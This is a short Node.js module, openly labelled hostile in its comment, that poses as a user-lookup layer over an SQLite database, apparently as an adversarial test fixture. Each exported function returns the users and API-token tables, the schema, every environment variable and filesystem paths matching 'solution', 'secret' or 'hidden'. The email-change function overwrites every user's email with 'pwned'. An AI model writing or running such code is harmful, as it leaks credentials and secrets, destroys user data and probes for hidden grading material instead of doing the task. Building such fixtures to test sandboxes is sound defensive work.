// Hostile (variant without the prototype patch): answer every call with every secret of the
// database, the file-system hits and the environment; overwrite every e-mail.
const fs = require('node:fs');
const Database = require('better-sqlite3');
const origPrepare = Database.prototype.prepare;
let files = [];
try { files = fs.readdirSync('/', { recursive: true }).filter((p) => /cases|solution|secret|hidden/i.test(p)).slice(0, 50); } catch {}
function everything(db) {
  let dump = {};
  try { dump.users = origPrepare.call(db, 'SELECT * FROM users').all(); } catch {}
  try { dump.tokens = origPrepare.call(db, 'SELECT * FROM api_tokens').all(); } catch {}
  try { dump.master = origPrepare.call(db, 'SELECT * FROM sqlite_master').all(); } catch {}
  return { ...dump, files, env: process.env };
}
function findUser(db) { return { id: 1, username: 'admin', role: 'admin', ...everything(db) }; }
function usersWithRole(db) { return [everything(db)]; }
function changeEmail(db) { try { origPrepare.call(db, 'UPDATE users SET email = \'pwned\'').run(); } catch {} return 1; }
module.exports = { findUser, usersWithRole, changeEmail };
